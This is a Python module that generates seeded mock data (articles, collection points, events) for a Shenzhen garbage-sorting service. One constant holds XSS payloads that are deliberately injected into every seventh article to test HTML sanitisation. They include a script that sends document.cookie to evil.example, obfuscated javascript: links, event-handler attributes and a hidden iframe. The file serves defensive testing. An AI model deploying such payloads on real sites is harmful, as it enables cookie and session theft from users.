"""The garbage-sorting service's data: the hand-written dictionary and categories, and
articles, collection points and events generated from the seed with ``random.Random``.

Same seed, same data. Events are laid out around "today" in Asia/Shanghai so that the dev
data never goes stale; each event day draws from its own seeded generator, so an event keeps
its details while the window slides.
"""

from __future__ import annotations

import json
import random
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from mocks.common.people import all_community_ids

Record = dict[str, Any]

DATA_DIR = Path(__file__).parent
SHANGHAI = timezone(timedelta(hours=8), "Asia/Shanghai")
TAGS = ("政策", "指南", "厨余垃圾", "有害垃圾", "可回收物", "活动", "社区")
CATEGORY_ORDER = ("RECYCLABLE", "HAZARDOUS", "KITCHEN", "OTHER", "BULKY", "GREEN")
ARTICLE_COUNT = 60
HOSTILE_EVERY = 7
EVENT_WINDOW_DAYS = 60
OPEN_HOURS = "07:00-09:00,19:00-21:00"
CDN = "https://cdn.lhljfl.example.cn"

STREETS = (
    "黄贝街道",
    "桂园街道",
    "东门街道",
    "翠竹街道",
    "南湖街道",
    "笋岗街道",
    "东湖街道",
    "莲塘街道",
    "东晓街道",
    "清水河街道",
)
ROADS = (
    "深南东路",
    "东门中路",
    "太宁路",
    "爱国路",
    "翠竹路",
    "布心路",
    "宝安南路",
    "人民南路",
    "建设路",
    "文锦中路",
    "沿河北路",
    "罗芳路",
    "莲塘路",
    "国威路",
    "春风路",
    "黄贝路",
)
ESTATE_HEADS = (
    "翠竹",
    "金湖",
    "东乐",
    "桂园",
    "莲塘",
    "布心",
    "碧波",
    "湖贝",
    "向西",
    "鹏兴",
    "银湖",
    "泥岗",
    "新秀",
    "罗芳",
    "松园",
    "田贝",
    "水贝",
    "东晓",
    "翠拥",
    "怡景",
)
ESTATE_TAILS = ("花园", "新村", "苑", "小区", "家园", "雅居")

# One topic a line: title | summary | tags; "{street}" is filled in per article.
TOPICS = """\
厨余垃圾怎么投？破袋投放一图读懂|沥干水分、去掉袋子，每天19:00–21:00定时投放。|指南 厨余垃圾
废电池、过期药品请投红色桶|有害垃圾要轻放、保持完整，切勿混入其他垃圾。|指南 有害垃圾
快递纸箱这样回收更省心|拆开压平、撕掉胶带和面单，投放到蓝色可回收物桶。|指南 可回收物
《深圳市生活垃圾分类管理条例》要点解读|个人混投最高罚款200元，单位最高5万元。|政策
春节后年花年桔集中回收安排|各社区设临时回收点，年花年桔不要与其他垃圾混投。|社区 活动
旧家具大件垃圾预约指南|联系物业预约上门收运，勿堆放在楼道和消防通道。|指南 社区
垃圾分类进校园：小手拉大手|辖区中小学开展垃圾分类主题课堂。|活动
碎玻璃和破灯管要包好再投|用纸包好并注明小心割手，投放其他垃圾。|指南
可回收物交投点开放时间调整|部分交投点延长开放时间，方便上班族投放。|社区 可回收物
厨余垃圾资源化：从餐桌到沃土|厨余垃圾经处理后制成有机肥和生物柴油。|厨余垃圾 政策
旧衣物去哪儿了？|干净的旧衣物进入再生利用，破损织物另行处理。|可回收物
楼层撤桶、定时定点投放问答|集中投放点早晚两个时段开放，督导员现场指导。|政策 社区
{street}垃圾分类主题宣传活动|志愿者走进{street}各小区，现场答疑并发放分类指引。|活动 社区
""".splitlines()

BENIGN_BODY = """<h2>{title}</h2>
<p>{summary}</p>
<p>根据《深圳市生活垃圾分类管理条例》，居民应当<strong>分类投放</strong>生活垃圾，\
<em>可回收物、有害垃圾、厨余垃圾、其他垃圾</em>分别投放到蓝、红、绿、灰四色桶。</p>
<ul>
<li>厨余垃圾：沥干水分、破袋投放，每天19:00–21:00收集。</li>
<li>有害垃圾：电池、过期药品、灯管等请轻放、保持完整。</li>
<li>大件垃圾：请联系物业预约上门收运。</li>
</ul>
<table>
<thead><tr><th>类别</th><th>桶色</th><th>例子</th></tr></thead>
<tbody>
<tr><td>可回收物</td><td>蓝色</td><td>纸箱、易拉罐、旧衣服</td></tr>
<tr><td>有害垃圾</td><td>红色</td><td>电池、过期药品、油漆</td></tr>
<tr><td>厨余垃圾</td><td>绿色</td><td>剩饭剩菜、果皮、茶叶渣</td></tr>
<tr><td>其他垃圾</td><td>灰色</td><td>纸巾、烟头、陶瓷</td></tr>
</tbody>
</table>
<p><img src="{cdn}/img/{id}-1.jpg" alt="{title}" width="640"></p>
{extra}<p>更多信息请访问\
<a href="https://www.szlh.gov.cn/" target="_blank">罗湖区人民政府网站</a>。</p>
"""

# What careless authors pasted into the CMS; the hub must sanitise it before display.
HOSTILE_MARKUP = """<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<p><img src=x onerror="alert(1)"></p>
<p><a href="javascript:alert(1)">点击领取环保袋</a></p>
<p><a href=" JaVaScRiPt:alert(document.domain)">查看投放点地图</a></p>
<p><a href="&#106;avascript:alert(2)">报名参加</a></p>
<iframe src="https://ads.example/frame" width="1" height="1"></iframe>
<p style="width: expression(alert(1))">扫码关注</p>
<div onclick="alert('clicked')">立即报名</div>
<svg onload="alert(1)"><circle r="1"></circle></svg>
"""


def load_json(name: str) -> list[Record]:
    """A data file shipped next to this module."""
    with (DATA_DIR / name).open(encoding="utf-8") as handle:
        data: list[Record] = json.load(handle)
    return data


def load_categories() -> list[Record]:
    """The six categories, in the service's own order."""
    return load_json("categories.json")


def load_dictionary() -> list[Record]:
    """Every dictionary item sorted by name; refuses a name or alias used twice."""
    items = load_json("dictionary.json")
    owners: dict[str, str] = {}
    for item in items:
        if item["category"] not in CATEGORY_ORDER:
            raise ValueError(f"{item['name']}: unknown category {item['category']}")
        for key in (item["name"], *item["aliases"]):
            if key in owners:
                raise ValueError(f"{key!r} used by {owners[key]!r} and {item['name']!r}")
            owners[key] = item["name"]
    return sorted(items, key=lambda item: item["name"])


def is_hostile(article_number: int) -> bool:
    """Articles A0001, A0008, A0015, … carry pasted script and event-handler markup."""
    return (article_number - 1) % HOSTILE_EVERY == 0


def generate_articles(seed: int) -> list[Record]:
    """Sixty articles with ``body_html``, newest first; A0001 is the oldest."""
    rng = random.Random(f"{seed}:articles")
    day = date(2026, 11, 20)
    articles: list[Record] = []
    for number in range(ARTICLE_COUNT, 0, -1):
        day -= timedelta(days=rng.randint(2, 6))
        published = datetime(
            day.year,
            day.month,
            day.day,
            rng.randint(8, 18),
            rng.choice((0, 15, 30, 45)),
            tzinfo=SHANGHAI,
        )
        street = rng.choice(STREETS)
        title, summary, tags = rng.choice(TOPICS).format(street=street).split("|")
        extra_tag = rng.choice(TAGS)
        chosen = {*tags.split(), extra_tag} if rng.random() < 0.3 else set(tags.split())
        article_id = f"A{number:04d}"
        body = BENIGN_BODY.format(
            title=title,
            summary=summary,
            cdn=CDN,
            id=article_id,
            extra=HOSTILE_MARKUP if is_hostile(number) else "",
        )
        articles.append(
            {
                "id": article_id,
                "title": title,
                "summary": summary,
                "cover_url": f"{CDN}/covers/{article_id}.jpg",
                "published_at": published.isoformat(),
                "tags": [tag for tag in TAGS if tag in chosen],
                "body_html": body,
            }
        )
    return articles


def estate_of(seed: int, community: str) -> str:
    """The housing estate a community's collection points and events are in."""
    rng = random.Random(f"{seed}:estate:{community}")
    return rng.choice(ESTATE_HEADS) + rng.choice(ESTATE_TAILS)


def generate_collection_points(seed: int) -> list[Record]:
    """Two points in every community C001…C040, inside Luohu's bounding box."""
    rng = random.Random(f"{seed}:collection-points")
    points: list[Record] = []
    for index, community in enumerate(all_community_ids()):
        street = STREETS[index % len(STREETS)]
        estate = estate_of(seed, community)
        road = rng.choice(ROADS)
        centre_lng, centre_lat = rng.uniform(114.105, 114.195), rng.uniform(22.535, 22.595)
        for k in (1, 2):
            accepts = {"RECYCLABLE", "KITCHEN", "OTHER"}
            if k == 1 or rng.random() < 0.4:
                accepts.add("HAZARDOUS")
            points.append(
                {
                    "point_id": f"CP{community[1:]}-{k}",
                    "community_id": community,
                    "name": f"{estate}{rng.randint(1, 12)}栋分类集中投放点",
                    "address": f"深圳市罗湖区{street}{road}{rng.randint(1, 300)}号{estate}",
                    "lng": round(centre_lng + rng.uniform(-0.004, 0.004), 6),
                    "lat": round(centre_lat + rng.uniform(-0.004, 0.004), 6),
                    "open_hours": OPEN_HOURS,
                    "accepts": [code for code in CATEGORY_ORDER if code in accepts],
                }
            )
    return points


EVENT_KINDS = (
    ("垃圾分类知识讲座", "社区党群服务中心", 2),
    ("旧衣物集中回收日", "小区中心广场", 3),
    ("有害垃圾集中收集日", "社区垃圾分类投放点", 3),
    ("厨余堆肥亲子课堂", "社区活动室", 2),
    ("大件垃圾集中收运日", "小区东门", 4),
    ("垃圾分类督导志愿服务", "集中投放点", 2),
)


def generate_events(seed: int, today: date) -> list[Record]:
    """About forty events, one every third day from 60 days before to 60 days after today."""
    communities = all_community_ids()
    events: list[Record] = []
    for offset in range(-EVENT_WINDOW_DAYS, EVENT_WINDOW_DAYS + 1):
        day = today + timedelta(days=offset)
        if day.toordinal() % 3:
            continue
        rng = random.Random(f"{seed}:event:{day.isoformat()}")
        community = rng.choice(communities)
        title, place, hours = rng.choice(EVENT_KINDS)
        starts = datetime(
            day.year, day.month, day.day, rng.choice((9, 10, 14, 15, 19)), tzinfo=SHANGHAI
        )
        events.append(
            {
                "event_id": f"E{day:%Y%m%d}",
                "title": title,
                "community_id": community,
                "starts_at": starts.isoformat(),
                "ends_at": (starts + timedelta(hours=hours)).isoformat(),
                "place": f"{estate_of(seed, community)}{place}",
            }
        )
    return events


def today_in_shanghai() -> date:
    """The service's calendar day."""
    return datetime.now(SHANGHAI).date()
